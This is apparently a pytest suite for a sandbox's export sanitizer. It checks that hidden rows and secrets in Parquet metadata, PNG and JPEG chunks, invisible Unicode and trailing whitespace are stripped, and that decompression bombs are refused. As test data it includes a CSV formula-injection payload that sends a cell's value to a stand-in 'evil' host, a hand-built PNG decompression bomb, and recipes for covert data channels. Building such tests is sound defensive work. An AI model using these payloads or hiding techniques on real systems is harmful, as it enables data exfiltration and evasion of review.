"""Canonical release, channel by channel: what an upload hides is not in the canonical bytes.

Each attack builds a real file with real libraries (pyarrow, Pillow), hides raw rows or a secret in a
channel the reviewer does not see, and checks that the canonical rendering (the only bytes that can
leave) does not carry it, that the visible content survives, and that the checks flag the attempt.
"""

from __future__ import annotations

import io
import json
import struct
import zlib

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin

from sandbox.exports.canonical import render, size_result
from sandbox.exports.canonical.tables import read_canonical
from sandbox.exports.canonical.text import clean
from sandbox.exports.checks import CheckContext, FileRefused, run_all

RAW = [{"seqn": 93703 + i, "age": 20 + i % 60, "income": 1.5 + i % 7} for i in range(2000)]
SECRET = "seqn=93703,age=2;seqn=93704,age=80"


def rules(results: list[dict]) -> dict[str, dict]:
    return {r["rule"]: r for r in results}


# -- tables ------------------------------------------------------------------------------------
def test_parquet_schema_metadata_with_2000_raw_rows_is_not_released() -> None:
    visible = pa.table({"sex": ["female", "male"], "n": [4180, 4016]})
    hidden = json.dumps(RAW).encode()
    field_meta = pa.field("n", pa.int64(), metadata={b"rows": hidden})
    schema = pa.schema([pa.field("sex", pa.string()), field_meta], metadata={b"raw_rows": hidden})
    sink = io.BytesIO()
    pq.write_table(visible.cast(schema), sink)
    upload = sink.getvalue()
    assert b"93703" in upload and len(upload) > 50_000

    canon, results = run_all("t.parquet", upload, CheckContext())
    assert b"93703" not in canon.data and b"seqn" not in canon.data and b"raw_rows" not in canon.data
    meta = pq.read_metadata(io.BytesIO(canon.data))
    assert meta.metadata is None  # no key-value metadata at all, not even the Arrow schema blob
    assert pq.read_schema(io.BytesIO(canon.data)).field("n").metadata is None
    assert pq.read_table(io.BytesIO(canon.data)).to_pylist() == visible.to_pylist()
    assert rules(results)["canonical.size"]["outcome"] == "review"  # 50 kB uploaded, 1 kB released


def test_csv_gets_one_dialect_typed_numbers_and_neutralized_formulas() -> None:
    upload = ('\ufeff"group";"n";"note"\r\n"a";"12";"=HYPERLINK(""http://evil/?""&A1,""x"")"\r\n'
              '"b";-3;"+1"\r\n"c";"1.50";" @SUM(A1)"\r\n"d";"7";"-x"\r\n').encode()
    canon, results = run_all("t.csv", upload, CheckContext())
    assert canon.data == (b'group,n,note\na,12,"\'=HYPERLINK(""http://evil/?""&A1,""x"")"\n'
                          b"b,-3,1\nc,1.5,'@SUM(A1)\nd,7,'-x\n")  # "+1" is the number 1
    table = read_canonical("csv", canon.data)
    assert table.column("n") == [12, -3, 1.5, 7]  # numbers stay numbers: -3 is not a formula
    formulas = rules(results)["canonical.formulas"]
    assert formulas["outcome"] == "review"
    assert [(c["row"], c["column"]) for c in formulas["cells"]] == [(0, "note"), (2, "note"), (3, "note")]


def test_ragged_rows_and_quoting_tricks_leave_only_the_visible_cells() -> None:
    upload = b"a,n\nx,12,SECRET_EXTRA_CELL\ny,13\n"
    out, _ = render("csv", upload)
    assert out == b"a,n\nx,12\ny,13\n"


def test_tsv_is_written_as_tsv() -> None:
    out, _ = render("tsv", b"a\tn\n\"x\"\t12\n")
    assert out == b"a\tn\nx\t12\n"


def test_invisible_characters_in_cells_are_removed_and_flagged() -> None:
    tags = "".join(chr(0xE0000 + ord(c)) for c in "seqn 93703")  # the tag block spells ASCII invisibly
    upload = f"group,n\nfe\u200bmale{tags},4180\nma\u202ele,4016\n".encode()
    canon, results = run_all("t.csv", upload, CheckContext())
    assert canon.data == b"group,n\nfemale,4180\nmale,4016\n"
    found = rules(results)["canonical.invisible"]
    assert found["outcome"] == "review" and "U+E0073" in found["removed"] and found["removed"]["U+200B"] == 1


@settings(max_examples=60, deadline=None)
@example([("=", 0, 0.0), ("=", 0, 0.0)])  # a neutralized formula was read back with a sniffed quote
@given(st.lists(st.tuples(st.text(max_size=12), st.integers(-10**12, 10**12),
                          st.floats(allow_nan=False, allow_infinity=False, width=64)), max_size=8))
def test_canonical_tables_are_a_fixed_point(rows: list[tuple[str, int, float]]) -> None:
    """Rendering the canonical file again changes nothing: it is written from its content alone."""
    import csv

    sink = io.StringIO()
    writer = csv.writer(sink)
    writer.writerow(["label", "n", "x"])
    writer.writerows(rows)
    once, _ = render("csv", sink.getvalue().encode())
    assert render("csv", once)[0] == once
    table = read_canonical("csv", once)
    twice, _ = render("parquet", _to_parquet(table))
    assert render("parquet", twice)[0] == twice


def _to_parquet(table) -> bytes:  # noqa: ANN001
    from sandbox.exports.canonical.tables import write_parquet

    return write_parquet(table)


# -- pictures ----------------------------------------------------------------------------------
def _image(size: tuple[int, int] = (8, 8)) -> Image.Image:
    im = Image.new("RGB", size)
    im.putdata([((x * 31) % 256, (y * 17) % 256, 90) for y in range(size[1]) for x in range(size[0])])
    return im


def test_png_text_chunks_and_private_chunks_are_not_released() -> None:
    info = PngImagePlugin.PngInfo()
    rows = json.dumps(RAW[:200])
    info.add_text("tEXt-rows", rows)
    info.add_text("zTXt-rows", rows, zip=True)
    info.add_itxt("iTXt-rows", rows, lang="en", tkey="rows", zip=False)
    info.add(b"prIv", SECRET.encode())
    sink = io.BytesIO()
    _image().save(sink, format="PNG", pnginfo=info, icc_profile=b"\x00" * 128 + SECRET.encode())
    upload = sink.getvalue()
    assert b"93703" in upload

    canon, results = run_all("plot.png", upload, CheckContext())
    assert b"93703" not in canon.data and b"seqn" not in canon.data
    assert b"93703" not in zlib.decompress(_idat(canon.data))  # not hidden in the pixels' stream either
    chunks = _png_chunks(canon.data)
    assert set(chunks) <= {b"IHDR", b"IDAT", b"IEND"}
    with Image.open(io.BytesIO(canon.data)) as got:
        assert got.convert("RGB").tobytes() == _image().tobytes()  # the same pixels
        assert not got.info
    dropped = rules(results)["canonical.metadata"]
    assert dropped["outcome"] == "review" and {"tEXt", "zTXt", "iTXt", "prIv", "iCCP"} <= set(dropped["dropped"])


def test_png_bytes_after_iend_are_refused_and_never_rendered() -> None:
    sink = io.BytesIO()
    _image().save(sink, format="PNG")
    with pytest.raises(FileRefused, match="hidden after the end"):
        run_all("plot.png", sink.getvalue() + SECRET.encode(), CheckContext())
    out, findings = render("png", sink.getvalue() + SECRET.encode())  # even if the gate were skipped
    assert SECRET.encode() not in out and "after IEND" in findings[0]["detail"]


def test_jpeg_exif_comment_and_trailing_bytes_are_not_released() -> None:
    exif = Image.Exif()
    exif[0x010E] = SECRET  # ImageDescription
    exif[0x0112] = 1  # orientation
    sink = io.BytesIO()
    _image((16, 16)).save(sink, format="JPEG", exif=exif.tobytes(), comment=SECRET.encode(), quality=95)
    upload = sink.getvalue() + b"\x00TRAILER:" + SECRET.encode()
    assert upload.count(SECRET.encode()) == 3

    canon, results = run_all("photo.jpg", upload, CheckContext())
    assert SECRET.encode() not in canon.data and b"Exif" not in canon.data
    assert b"\xff\xfe" not in canon.data.split(b"\xff\xda", 1)[0]  # no COM segment before the scan
    with Image.open(io.BytesIO(canon.data)) as got:
        assert got.size == (16, 16) and "exif" not in got.info and "comment" not in got.info
    dropped = " ".join(rules(results)["canonical.metadata"]["dropped"])
    assert "APP1 (Exif)" in dropped and "COM" in dropped and "after EOI" in dropped


def test_palette_png_keeps_no_unused_palette_entries() -> None:
    im = Image.new("P", (4, 4), 0)
    palette = [0, 0, 0] + list(SECRET.encode()[:255 * 3]) + [0] * (768 - 3 - len(SECRET))
    im.putpalette(palette[:768])
    sink = io.BytesIO()
    im.save(sink, format="PNG")
    assert SECRET.encode()[:20] in sink.getvalue()
    out, _ = render("png", sink.getvalue())
    assert SECRET.encode()[:20] not in out and b"PLTE" not in out


def test_decompression_bombs_are_refused_before_decoding() -> None:
    width = height = 20_000  # 400 megapixels in a few hundred bytes
    raw_row = b"\x00" + b"\x00" * width
    body = zlib.compress(raw_row * 10, 9)  # short IDAT: the header alone decides
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    bomb = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")
    with pytest.raises(FileRefused, match="over the cap|decompression bomb"):
        run_all("bomb.png", bomb, CheckContext())


def test_broken_picture_is_refused() -> None:
    with pytest.raises(FileRefused, match="cannot be decoded"):
        run_all("plot.png", b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", b"\x00" * 13) + _chunk(b"IEND", b""),
                CheckContext())


# -- text --------------------------------------------------------------------------------------
def test_text_invisible_and_control_characters_are_removed_and_flagged() -> None:
    tags = "".join(chr(0xE0000 + ord(c)) for c in SECRET)
    upload = (f"Results\r\nWomen: 4180{tags}\u200b\u200d\u2066\u202e\x07\x1b[31m\ufe0f\n"
              "caf\u0065\u0301\tok\n").encode()
    canon, results = run_all("notes.md", upload, CheckContext())
    assert canon.data.decode() == "Results\nWomen: 4180[31m\ncafé\tok\n"
    assert canon.data.decode() == clean(canon.data.decode())  # nothing left to remove
    found = rules(results)["canonical.invisible"]
    assert found["outcome"] == "review"
    assert sum(found["removed"].values()) == len(SECRET) + 7


def test_refused_formats_name_the_accepted_ones() -> None:
    for name, data in (("report.pdf", b"%PDF-1.4\n%%EOF\n"), ("nb.ipynb", b'{"cells": []}'),
                       ("t.xlsx", b"PK\x03\x04" + b"\x00" * 30), ("page.html", b"<p>x</p>")):
        with pytest.raises(FileRefused) as err:
            run_all(name, data, CheckContext())
        assert "accepted are tables (.csv, .tsv, .parquet), pictures (.png, .jpg, .jpeg)" in err.value.message


def test_size_gap_is_flagged() -> None:
    assert size_result(100_000, 1_000)["outcome"] == "review"
    assert size_result(1_200, 1_000)["outcome"] == "pass"


# -- helpers -----------------------------------------------------------------------------------
def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png_chunks(data: bytes) -> dict[bytes, bytes]:
    pos, out = 8, {}
    while pos + 8 <= len(data):
        (length,) = struct.unpack(">I", data[pos: pos + 4])
        kind = data[pos + 4: pos + 8]
        out[kind] = out.get(kind, b"") + data[pos + 8: pos + 8 + length]
        pos += 12 + length
    return out


def _idat(data: bytes) -> bytes:
    return _png_chunks(data)[b"IDAT"]


def test_trailing_whitespace_is_an_invisible_channel_too() -> None:
    bits = "".join(" " if b == "1" else "\t" for b in format(93703, "b"))
    out, findings = render("text", f"mean age 35.4{bits}\nok \n".encode())
    assert out == b"mean age 35.4\nok\n"
    assert findings[0]["removed"]["trailing whitespace"] == len(bits) + 1


def test_parquet_that_unpacks_past_the_cap_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    from sandbox.exports import tables

    monkeypatch.setattr(tables, "MAX_PARQUET_BYTES", 1_000_000)
    sink = io.BytesIO()
    pq.write_table(pa.table({"s": ["x" * 1000] * 2000}), sink, use_dictionary=False, compression="zstd")
    assert len(sink.getvalue()) < 100_000
    with pytest.raises(FileRefused, match="unpacks to"):
        run_all("t.parquet", sink.getvalue(), CheckContext())
